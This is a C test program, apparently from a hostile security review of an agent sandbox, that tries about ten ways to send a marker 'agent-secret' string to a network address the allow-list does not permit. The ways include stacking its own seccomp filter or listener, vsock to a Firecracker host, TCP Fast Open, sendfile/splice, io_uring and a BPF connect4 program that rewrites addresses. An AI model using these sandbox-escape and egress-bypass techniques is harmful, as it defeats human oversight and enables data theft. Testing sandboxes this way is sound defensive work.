/* ha35-held: hostile review h-attack35, the angles that held. Each mode
 * tries one way to get "agent-secret via MODE" to UNDECL (an address the
 * allow-list does not name) and prints what each call returned.
 *
 *   ha35-held MODE DECL:PORT UNDECL:PORT
 *     control     TCP_FASTOPEN_CONNECT, connect(DECL), write(): the
 *                 declared sink gets it (the setup works)
 *     listener    a seccomp filter of the agent's own with
 *                 SECCOMP_FILTER_FLAG_NEW_LISTENER (a listener of its own
 *                 that would answer CONTINUE before ours sees the call)
 *     ownnotif    a filter of its own returning SECCOMP_RET_USER_NOTIF for
 *                 connect, no listener: the newest filter's notification
 *                 wins over ours, then connect(UNDECL)
 *     socketpair  socketpair() of every family 0..45 and type 1..6 (not
 *                 trapped): which kinds but AF_UNIX it makes
 *     vsock       socket(AF_VSOCK) (this host is a Firecracker guest: vsock
 *                 reaches its host), then connect to CID 2
 *     fastopen    a TCP socket, sendto(MSG_FASTOPEN) with no name (answered
 *                 CONTINUE: "connected-peer")
 *     tfoconnect  TCP_FASTOPEN_CONNECT, connect(UNDECL), write()
 *     sendfile    an unconnected UDP socket: sendfile() and splice() into it
 *     ulp         TCP_ULP "tls", "smc", "espintcp", "mptcp" on a TCP socket
 *     iouring     io_uring_setup()
 *     bpf         bpf(BPF_MAP_CREATE) and bpf(BPF_PROG_LOAD) of a
 *                 cgroup/connect4 program (one that would rewrite the
 *                 judged address) */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static char msg[64];

static int parse(const char *arg, struct sockaddr_in *sin)
{
	char host[64], *colon;

	snprintf(host, sizeof(host), "%s", arg);
	colon = strchr(host, ':');
	if (!colon)
		return -1;
	*colon = '\0';
	sin->sin_family = AF_INET;
	sin->sin_port = htons((unsigned short)atoi(colon + 1));
	return inet_pton(AF_INET, host, &sin->sin_addr) == 1 ? 0 : -1;
}

static void say(const char *what, long rc)
{
	printf("agent: %s = %ld (%s)\n", what, rc, rc < 0 ? strerror(errno) : "ok");
}

/* A filter returning action for connect, allowing the rest. */
static long own_filter(unsigned action, unsigned flags)
{
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, action),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog p = {.len = 4, .filter = f};

	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &p);
}

static void tcp_to(const struct sockaddr_in *to, int tfo)
{
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	if (tfo)
		say("setsockopt TCP_FASTOPEN_CONNECT",
		    setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)));
	if (connect(s, (const struct sockaddr *)to, sizeof(*to)) != 0) {
		say("connect", -1);
		close(s);
		return;
	}
	say("connect", 0);
	say("write", write(s, msg, strlen(msg)));
	usleep(300 * 1000);
	close(s);
}

int main(int argc, char **argv)
{
	struct sockaddr_in decl, undecl;
	const char *mode;
	long rc;
	int s;

	if (argc != 4 || parse(argv[2], &decl) || parse(argv[3], &undecl)) {
		fprintf(stderr, "usage: ha35-held MODE DECL:PORT UNDECL:PORT\n");
		return 2;
	}
	mode = argv[1];
	snprintf(msg, sizeof(msg), "agent-secret via %s", mode);
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (strcmp(mode, "listener") == 0) {
		rc = own_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
		say("seccomp NEW_LISTENER", rc);
		if (rc >= 0)
			printf("agent: a listener of its own: fd %ld\n", rc);
	} else if (strcmp(mode, "ownnotif") == 0) {
		say("seccomp RET_USER_NOTIF without a listener",
		    own_filter(SECCOMP_RET_USER_NOTIF, 0));
		tcp_to(&undecl, 0);
	} else if (strcmp(mode, "socketpair") == 0) {
		int made = 0;

		for (int fam = 0; fam <= 45; fam++)
			for (int type = 1; type <= 6; type++) {
				int sv[2];

				if (fam == AF_UNIX || socketpair(fam, type, 0, sv) != 0)
					continue;
				printf("agent: socketpair(%d, %d) made a pair\n", fam, type);
				made++;
			}
		printf("agent: socketpair made %d pairs of a family other than AF_UNIX\n", made);
	} else if (strcmp(mode, "vsock") == 0) {
		struct sockaddr_vm vm = {.svm_family = AF_VSOCK, .svm_cid = 2, .svm_port = 9999};

		s = socket(AF_VSOCK, SOCK_STREAM, 0);
		say("socket(AF_VSOCK)", s);
		if (s >= 0)
			say("connect(vsock cid 2)", connect(s, (struct sockaddr *)&vm, sizeof(vm)));
	} else if (strcmp(mode, "fastopen") == 0) {
		s = socket(AF_INET, SOCK_STREAM, 0);
		say("sendto(MSG_FASTOPEN, no name)",
		    sendto(s, msg, strlen(msg), MSG_FASTOPEN, NULL, 0));
	} else if (strcmp(mode, "control") == 0) {
		tcp_to(&decl, 1);
	} else if (strcmp(mode, "tfoconnect") == 0) {
		tcp_to(&undecl, 1);
	} else if (strcmp(mode, "sendfile") == 0) {
		int mfd = memfd_create("payload", 0), p[2];
		off_t off = 0;

		say("write memfd", write(mfd, msg, strlen(msg)));
		s = socket(AF_INET, SOCK_DGRAM, 0);
		say("sendfile(udp, memfd)", sendfile(s, mfd, &off, strlen(msg)));
		say("pipe", pipe(p));
		say("write pipe", write(p[1], msg, strlen(msg)));
		say("splice(pipe, udp)", splice(p[0], NULL, s, NULL, strlen(msg), 0));
	} else if (strcmp(mode, "ulp") == 0) {
		static const char *const ulps[] = {"tls", "smc", "espintcp", "mptcp"};

		for (size_t i = 0; i < sizeof(ulps) / sizeof(ulps[0]); i++) {
			char what[64];

			s = socket(AF_INET, SOCK_STREAM, 0);
			snprintf(what, sizeof(what), "setsockopt TCP_ULP %s", ulps[i]);
			say(what, setsockopt(s, IPPROTO_TCP, TCP_ULP, ulps[i], strlen(ulps[i])));
			close(s);
		}
	} else if (strcmp(mode, "iouring") == 0) {
		char params[120] = {0};

		say("io_uring_setup", syscall(SYS_io_uring_setup, 8, params));
	} else if (strcmp(mode, "bpf") == 0) {
		union bpf_attr a;
		struct bpf_insn prog[] = {
		    {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 1},
		    {.code = BPF_JMP | BPF_EXIT},
		};

		memset(&a, 0, sizeof(a));
		a.map_type = BPF_MAP_TYPE_ARRAY;
		a.key_size = 4;
		a.value_size = 4;
		a.max_entries = 1;
		say("bpf(BPF_MAP_CREATE)", syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a)));
		memset(&a, 0, sizeof(a));
		a.prog_type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR;
		a.expected_attach_type = BPF_CGROUP_INET4_CONNECT;
		a.insns = (unsigned long)prog;
		a.insn_cnt = 2;
		a.license = (unsigned long)"GPL";
		say("bpf(BPF_PROG_LOAD cgroup/connect4)",
		    syscall(SYS_bpf, BPF_PROG_LOAD, &a, sizeof(a)));
	} else {
		return 2;
	}
	return 0;
}
